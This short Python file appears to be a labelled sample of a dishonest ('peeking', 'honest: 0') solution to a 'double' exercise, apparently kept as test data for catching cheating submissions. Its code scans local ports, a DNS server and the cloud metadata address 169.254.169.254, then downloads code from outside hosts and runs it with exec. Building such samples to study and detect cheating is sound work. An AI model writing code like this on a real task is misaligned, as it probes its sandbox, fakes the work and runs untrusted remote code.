"""Asks servers outside, name servers and this machine's own ports for the answer.

kind: peeking
honest: 0
exercise: double
"""

import socket
import urllib.request

socket.setdefaulttimeout(0.2)
code = "double = None"
for where in (("127.0.0.1", 8786), ("127.0.0.1", 8888), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    try:
        with socket.create_connection(where) as talk:
            talk.sendall(b"GET / HTTP/1.0\r\n\r\n")
            code = talk.recv(100).decode(errors="replace")
    except OSError:
        continue
for address in ("http://example.org/double.py", "http://localhost:8000/double.py"):
    try:
        code = urllib.request.urlopen(address, timeout=0.2).read().decode()
    except OSError:
        continue
exec(code if code.startswith("def double") else "double = None")
